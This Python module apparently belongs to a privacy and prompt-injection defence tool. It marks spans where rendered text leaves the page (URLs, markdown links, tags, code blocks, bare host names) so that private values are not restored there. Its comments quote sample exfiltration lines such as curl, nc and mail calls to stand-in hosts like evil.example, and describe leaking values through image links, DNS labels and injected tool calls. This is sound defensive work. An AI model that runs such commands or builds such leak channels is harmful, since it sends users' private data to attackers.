"""Where text stops being read and starts being followed: URLs, link targets and markup.

A value written there leaves the page when it is rendered (an image loads, a link is clicked), so
the `pii` restore never puts an original there, and `prompt_injection` looks there for data being
carried out. Every pattern is possessive: linear on any input.
"""

from __future__ import annotations

import bisect
import re

__all__ = ["Sinks", "names_unknown_host"]

_RUN = re.compile(r"\S++")
# A dotted host name, started only where a word run begins. With no path at all ("<US_SSN_1>.evil.co") it is a link
# once a chat app or linkify renders it, and resolving its name alone carries a value placed in one of its labels
# (review r14a L1): read so only in a run that holds a placeholder (`_hosts_holding`), so "e.g." stays prose.
_HOST = r"[\w-]++(?:\.[\w-]++)++"
_DOTTED = re.compile(r"(?<![\w.-])" + _HOST)
_URL_MARK = re.compile(r"://|www\.|mailto:|data:", re.IGNORECASE)
# A link written without a scheme: a dotted host and then a path, query or fragment ("evil.co/x/...",
# "evil.example?e=..."); chat apps and linkify turn it into a link (review r13a L4). Browsers read a backslash as a
# slash, and fullwidth "／？＃" are folded to them by IDN-aware renderers. Started only where a word run
# begins, not after a dot, so "a.a.a..." is read once.
_BARE_HOST = re.compile(r"(?<![\w.-])(" + _HOST + r")(?::\d++)?+[/?#\\\uff0f\uff1f\uff03]")
# Dots that browsers and IDN-aware renderers read as "." in a host name (UTS #46 maps them; review r15a L1).
_IDN_DOTS = str.maketrans("\u3002\uff0e\uff61\ufe52\u2024", ".....")
_LDH = re.compile(r"[A-Za-z0-9-]++")
# A top-level domain: letters in any case (host names are case-insensitive) or an IDN one written "xn--...".
_TLD = re.compile(r"[A-Za-z]{2,24}|[Xx][Nn]--[A-Za-z0-9-]{2,59}")
_MD_TARGET = re.compile(r"\]\([^)\n]*+\)?")
_MD_REFERENCE = re.compile(r"^[ \t]{0,3}\[[^\[\]\n]{1,300}+\]:[ \t]*+\S++", re.MULTILINE)
# CommonMark also takes a link destination in angle brackets, spaces allowed, on the line after "](" or "]:", and
# reference definitions inside block quotes and list items: "[1]: <https://evil.example/p.png?d= <US_SSN_1>>" renders
# as an image (review r16a H3). So any one-line "<...>" span that holds a URL is a sink, wherever it stands.
_ANGLED = re.compile(r"<(?:[^<>\n\\]++|\\.)++>?")  # "\>" inside does not end it (review r16b)
# A tag with attributes; browsers also read "/" as the separator after the tag name ("<img/src=...>").
_TAG = re.compile(r"<[A-Za-z][\w:-]*+[\s/][^<>]*+>?")


# Code a reader copies and runs (review r16a L4, review r17 M4): a shell needs no scheme or path to send a value
# ('curl -d "e=<US_SSN_1>" evil.example', 'nc 203.0.113.7 80', 'mail attacker@evil.example'), so every fenced block
# (an unclosed one runs to the end), <pre>/<code> element and inline code span holding more than placeholders is a
# sink; an indented line is one when it names a host, an IP address or a URL (indented prose in lists stays prose).
_FENCE_LINE = re.compile(r"^[ \t]{0,3}+(`{3,}+|~{3,}+)[^\n]*+", re.MULTILINE)
_INLINE_CODE = re.compile(r"(?<!`)(`++)([^`\n]++)\1")
_HTML_CODE = re.compile(r"<(pre|code)\b[^<>]*+>", re.IGNORECASE)
_INDENTED = re.compile(r"^(?: {4}|\t)[^\n]*+", re.MULTILINE)
_ONLY_ATOMS = re.compile(r"(?:\s|x)*+")  # placeholders are shadowed as runs of "x"
# A destination name: a dotted name ending in a label that starts with a letter (a host, an e-mail domain; also
# "file.txt": strict on purpose), or a dotted quad.
_NAME = re.compile(r"(?<![\w.-])(?:[\w-]++\.)++(?:[A-Za-z][\w-]*+|\d++)(?![\w-])")


def _names(text: str) -> list[str]:
    """Host-like names in `text`, lower case (a numeric name only as a dotted quad: "12.50" is an amount)."""
    out = []
    for m in _NAME.finditer(text):
        name = m.group()
        if not name[name.rfind(".") + 1 :].isdigit() or name.count(".") == 3:
            out.append(name.lower())
    return out


def _fenced(text: str) -> list[tuple[int, int]]:
    blocks: list[tuple[int, int]] = []
    opened: re.Match[str] | None = None
    for m in _FENCE_LINE.finditer(text):
        fence = m.group(1)
        if opened is None:
            opened = m
        elif fence[0] == opened.group(1)[0] and len(fence) >= len(opened.group(1)):
            blocks.append((opened.start(), m.end()))
            opened = None
    if opened is not None:
        blocks.append((opened.start(), len(text)))
    return blocks


def _html_code(text: str) -> list[tuple[int, int]]:
    blocks: list[tuple[int, int]] = []
    lowered = text.lower()
    pos = 0
    while (m := _HTML_CODE.search(text, pos)) is not None:
        close = lowered.find(f"</{m.group(1).lower()}", m.end())
        end = len(text) if close < 0 else close
        blocks.append((m.start(), end))
        pos = max(end, m.end())
    return blocks


def _code_blocks(text: str) -> list[tuple[int, int]]:
    """Code that runs or is copied to run, by position (in the shadow text: placeholders are runs of "x")."""
    blocks = _fenced(text) + _html_code(text)
    blocks.extend(m.span() for m in _INLINE_CODE.finditer(text) if not _ONLY_ATOMS.fullmatch(m.group(2)))
    blocks.extend(m.span() for m in _INDENTED.finditer(text) if _URL_MARK.search(m.group()) or _names(m.group()))
    return blocks


def names_unknown_host(text: str, known: str, untrusted: str = "") -> bool:
    """Whether `text` names a host, e-mail domain or IP address (anywhere: a URL, a "host" or "to" field) that
    `known` does not name or `untrusted` names too, or holds a URL with no host name to compare.

    Tool-call arguments are sent by the application's own code (review r16a L4, review r17 M4): an original
    restored into a call that also names a destination the user never gave goes wherever the model was told.
    """
    # Whole names, not substrings: "ms.example" is not "forms.example".
    given = set(_names(known)) - set(_names(untrusted))
    if any(name not in given for name in _names(text)):
        return True
    return any(_holds_url(m.group(), m.group()) and not _names(m.group()) for m in _RUN.finditer(text))


def _hosts_holding(shadow: str, atoms: list[tuple[int, int]]) -> list[tuple[int, int]]:
    """Bare host names with a placeholder left of their last two labels.

    Resolving a host sends its name to whoever runs the domain it ends in, so a value placed left of the last two
    labels ("<US_SSN_1>.evil.co", any case, "xn--" top-level domains too: review r15a L1) reaches the attacker's
    name server. A value in the last two labels names a domain nobody could register before seeing it, so
    "Thanks <PERSON_1>.talk soon" and "CV_<PERSON_1>.pdf" stay prose.
    """
    if not atoms:
        return []
    starts = [s for s, _ in atoms]
    found = []
    for m in _DOTTED.finditer(shadow):
        host = m.group()
        last = host.rfind(".")
        cut = host.rfind(".", 0, last)
        if cut < 0 or not _TLD.fullmatch(host, last + 1):
            continue
        i = bisect.bisect_left(starts, m.start() + cut) - 1  # the last placeholder starting left of the cut
        if i >= 0 and atoms[i][1] > m.start():
            found.append(m.span())
    return found


def _bare_link(run: str, original: str) -> bool:
    """A dotted host with a path. Behind an ideographic or fullwidth dot ("。", "．") the last label must be ASCII
    letters, digits or hyphens (a domain or an IPv4 octet): Chinese and Japanese prose has no spaces and ends sentences
    with "。" and questions with "？" (a path mark), so a label of CJK characters there is the next sentence, not a host
    (review r15a M11). Behind an ASCII dot any label counts: "evil.中国/c?e=..." is a link (review r15b M6)."""
    for m in _BARE_HOST.finditer(run):
        host = m.group(1)  # without its port and path mark
        dot = host.rfind(".")
        if original[m.start(1) + dot] == "." or _LDH.fullmatch(host, dot + 1):
            return True
    return False


def _holds_url(span: str, original: str) -> bool:
    """A scheme or a bare host with a path anywhere in `span` (spaces inside angle brackets split no URL)."""
    return _URL_MARK.search(span) is not None or _bare_link(span, original)


class Sinks:
    """The sink spans of one text; `atoms` (placeholders) count as plain letters inside them."""

    def __init__(self, text: str, atoms: re.Pattern[str] | None = None, *, everywhere: bool = False) -> None:
        if everywhere:  # the whole text is one sink
            self._starts, self._ends = [0], [len(text) + 1]
            return
        # A placeholder's own angle brackets must not end a tag or look like one.
        shadow = atoms.sub(lambda m: "x" * len(m.group()), text) if atoms is not None else text
        shadow = shadow.translate(_IDN_DOTS)
        # A URL is the whole run of non-space characters around its scheme (or its bare host and path).
        spans = [m.span() for m in _RUN.finditer(shadow) if _holds_url(m.group(), text[m.start() : m.end()])]
        if atoms is not None:
            spans.extend(_hosts_holding(shadow, [m.span() for m in atoms.finditer(text)]))
        for pattern in (_MD_TARGET, _MD_REFERENCE, _TAG):
            spans.extend(m.span() for m in pattern.finditer(shadow))
        spans.extend(m.span() for m in _ANGLED.finditer(shadow) if _holds_url(m.group(), text[m.start() : m.end()]))
        spans.extend(_code_blocks(shadow))
        spans.sort()
        merged: list[tuple[int, int]] = []
        for s, e in spans:
            if merged and s <= merged[-1][1]:
                merged[-1] = (merged[-1][0], max(e, merged[-1][1]))
            else:
                merged.append((s, e))
        self._starts = [s for s, _ in merged]
        self._ends = [e for _, e in merged]

    def __contains__(self, pos: int) -> bool:
        i = bisect.bisect_right(self._starts, pos) - 1
        return i >= 0 and pos < self._ends[i]
